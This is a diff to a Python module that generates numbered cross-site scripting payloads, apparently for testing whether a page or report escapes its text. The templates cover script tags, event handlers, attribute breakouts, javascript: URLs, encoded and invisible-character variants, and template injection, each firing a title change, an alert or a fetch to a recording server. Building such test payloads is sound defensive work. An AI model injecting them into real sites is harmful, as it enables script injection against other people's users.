@@ -1,13 +1,14 @@
-"""Text that would do something if a page took it for more than text.
+"""Attack payloads: text that runs a script or loads something if a page includes it unescaped.
 
-Each payload has a number. If it runs, it sets the title of the page, asks a server for that number, or opens a box.
+Each payload has a number. If it runs, it sets the title of the page, requests that number from a server, or opens a
+dialog.
 """
 
 from __future__ import annotations
 
 from collections.abc import Iterator
 
-# {do} is a program without quotes of either kind or angle brackets, {url} an address that tells on who asks for it.
+# {do} is a script without quotes and angle brackets, {url} an address of the server that records requests.
 _TEMPLATES = (
     # elements
     "<script>{do}</script>",
@@ -31,7 +32,7 @@ _TEMPLATES = (
     "<noscript><p title='</noscript><img src=x onerror={do}>'>",
     "<xmp><script>{do}</script></xmp>",
     "<plaintext><img src=x onerror={do}>",
-    # handlers of events
+    # event handlers
     "<img src=x onerror={do}>",
     "<img src=x onerror='{do}'>",
     '<img src=x onerror="{do}">',
@@ -57,7 +58,7 @@ _TEMPLATES = (
     "<svg><style><img src=x onerror={do}></style></svg>",
     "<math><mtext><img src=x onerror={do}></mtext></math>",
     "<math href=javascript:{do}>x</math>",
-    # out of where a report puts text
+    # breaking out of the elements in which a report puts text
     "\" onmouseover='{do}' x=\"",
     "' autofocus onfocus={do} '",
     '"><script>{do}</script>',
@@ -75,7 +76,7 @@ _TEMPLATES = (
     "]]><script>{do}</script>",
     "<![CDATA[<script>{do}</script>]]>",
     "<?xml version=1.0?><script>{do}</script>",
-    # addresses that are programs
+    # URLs that are scripts
     "javascript:{do}",
     "<a href=javascript:{do} id=x autofocus>x</a>",
     "<a href='java\tscript:{do}'>x</a>",
@@ -97,14 +98,14 @@ _TEMPLATES = (
     "%3Cscript%3E{do}%3C/script%3E",
     "\\x3cscript\\x3e{do}\\x3c/script\\x3e",
     "\\u003cscript\\u003e{do}",
-    # what cannot be seen
+    # invisible characters
     "<scr\x00ipt>{do}</scr\x00ipt>",
     "\x00<img src=x onerror={do}>\x1b]0;x\x07",
     "\u202e<script>{do}</script>\u2066\u2069",
     "\u2028<script>{do}</script>\u2029",
     "<img\x0bsrc=x\x0conerror={do}>",
     "\x1a<script>{do}</script>\x85",
-    # other people's templates
+    # template languages
     "{{{{constructor.constructor('{do}')()}}}}",
     "${{{do}}}",
     "<%= {do} %>",
@@ -120,7 +121,7 @@ _DOING = ("document.title={number}", "fetch(`{server}/{number}`)", "alert({numbe
 
 
 def payloads(server: str) -> Iterator[str]:
-    """All of them; `server` is who is told when one has run."""
+    """Yield all payloads; one that runs sends a request to `server`."""
     number = 0
     for doing in _DOING:
         for template in (*_TEMPLATES, *_LONG):
